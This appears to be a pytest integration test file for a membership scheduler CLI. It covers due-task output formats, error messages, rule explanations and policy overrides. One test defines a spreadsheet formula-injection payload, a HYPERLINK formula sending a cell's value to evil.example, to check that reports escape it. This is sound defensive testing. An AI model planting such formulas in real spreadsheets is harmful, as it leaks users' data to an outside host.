"""The scheduler's commands as a person runs them: due in every format, why, policy."""

from __future__ import annotations

import csv
import io
import json
from datetime import date
from pathlib import Path

import pytest
from openpyxl import load_workbook
from sqlalchemy import Engine

from tests.cli import liaison
from tests.integration.scheduler.ledger import build_ledger

AS_OF = date(2026, 11, 22)


@pytest.fixture
def run(engine: Engine, liaison_env: dict[str, str]):  # type: ignore[no-untyped-def]
    build_ledger(engine, seed=21, members=40, as_of=AS_OF)

    def invoke(*args: str) -> tuple[int, str, str]:
        result = liaison(*args)
        return result.exit_code, result.stdout, result.stderr

    return invoke


def test_due_prints_the_same_tasks_as_jsonl_csv_table_and_xlsx(run, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    code, out, _ = run("due", "--as-of", "2026-11-22", "--format", "jsonl")
    assert code == 0
    listed = [json.loads(line) for line in out.splitlines()]
    assert listed
    code, out, _ = run("due", "--as-of", "2026-11-22", "--format", "csv")
    rows = list(csv.DictReader(io.StringIO(out)))
    assert [(r["member_id"], r["rule"], r["window_start"]) for r in rows] == [
        (t["member_id"], t["rule"], t["window_start"]) for t in listed
    ]
    code, out, _ = run("due", "--as-of", "2026-11-22", "--format", "table")
    assert out.splitlines()[0].split()[:3] == ["member_id", "rule", "window_start"]
    assert out.splitlines()[-1] == f"{len(listed)} open task(s)"
    target = tmp_path / "due.xlsx"
    code, _, err = run("due", "--as-of", "2026-11-22", "--format", "xlsx", "--out", str(target))
    assert code == 0 and f"{len(listed)} open task(s)" in err
    sheet = load_workbook(target, read_only=True)["due"]
    values = list(sheet.iter_rows(values_only=True))
    assert values[0][:2] == ("member_id", "rule") and len(values) == len(listed) + 1


def test_due_for_an_unknown_organization_says_so_without_a_traceback(
    run, liaison_env: dict[str, str]
) -> None:  # type: ignore[no-untyped-def]
    import os
    import subprocess
    import sys

    liaison = Path(sys.executable).with_name("liaison")
    done = subprocess.run(
        [str(liaison), "due", "--org", "NOPE", "--as-of", "2026-11-22"],
        capture_output=True,
        text=True,
        env={**os.environ, **liaison_env},
        check=False,
    )
    assert done.returncode == 1
    assert done.stderr.strip().endswith("liaison: no organization with code 'NOPE'")
    assert "Traceback" not in done.stderr


def test_a_malformed_as_of_day_is_refused_with_the_accepted_spellings(run) -> None:  # type: ignore[no-untyped-def]
    code, _, err = run("due", "--as-of", "22/11/2026")
    assert code == 2 and "2026-03-01" in err


def test_why_explains_every_rule_with_its_policy_source(run) -> None:  # type: ignore[no-untyped-def]
    code, out, _ = run("why", "M0001", "--as-of", "2026-11-22")
    assert code == 0
    assert out.startswith("member M0001")
    for rule in ("monthly_contact", "quarterly_visit", "certificate_review", "ledger_verification"):
        assert f"\n{rule}: " in out
    assert "policy: enabled=true (default)" in out


def test_policy_set_overrides_a_subtree_and_policy_show_names_the_source(run) -> None:  # type: ignore[no-untyped-def]
    code, out, _ = run(
        "policy",
        "set",
        "--org",
        "TH-XC",
        "monthly_contact.required=2",
        'quarterly_visit.kinds=["visit","meeting"]',
    )
    assert code == 0, out
    code, out, _ = run("policy", "show", "--org", "TH-XC-01")
    assert "monthly_contact.required = 2  [TH-XC]" in out
    assert 'quarterly_visit.kinds = ["visit", "meeting"]  [TH-XC]' in out
    assert 'monthly_contact.period = "month"  [default]' in out
    code, out, _ = run("policy", "show", "--org", "TH-JH-01")
    assert "monthly_contact.required = 1  [default]" in out


def test_policy_set_refuses_an_unknown_parameter(run) -> None:  # type: ignore[no-untyped-def]
    result = liaison("policy", "set", "--org", "TH", "monthly_contact.colour=1")
    assert result.exit_code != 0
    assert "has no parameter 'colour'" in str(result.exception)


HYPERLINK = '=HYPERLINK("http://evil.example/?x="&C2,"click")'


def test_a_formula_in_an_organization_name_comes_out_of_the_report_as_text(
    run, engine: Engine, tmp_path: Path
) -> None:  # type: ignore[no-untyped-def]
    from sqlalchemy import select, update

    from shared.models import Organization

    with engine.begin() as conn:
        code = conn.execute(select(Organization.code).order_by(Organization.code)).scalars().first()
        conn.execute(update(Organization).where(Organization.code == code).values(name=HYPERLINK))
    status, out, _ = run(
        "report", "--period", "2026-Q4", "--as-of", "2026-11-22", "--format", "csv"
    )
    assert status == 0
    names = [row[1] for row in csv.reader(io.StringIO(out))]
    assert f"'{HYPERLINK}" in names and HYPERLINK not in names
    target = tmp_path / "report.xlsx"
    status, _, _ = run(
        "report", "--period", "2026-Q4", "--as-of", "2026-11-22", "--format", "xlsx",
        "--out", str(target),
    )  # fmt: skip
    assert status == 0
    cells = [row[1] for row in load_workbook(target)["report"].iter_rows()]
    [cell] = [c for c in cells if c.value == HYPERLINK]
    assert cell.data_type == "s"
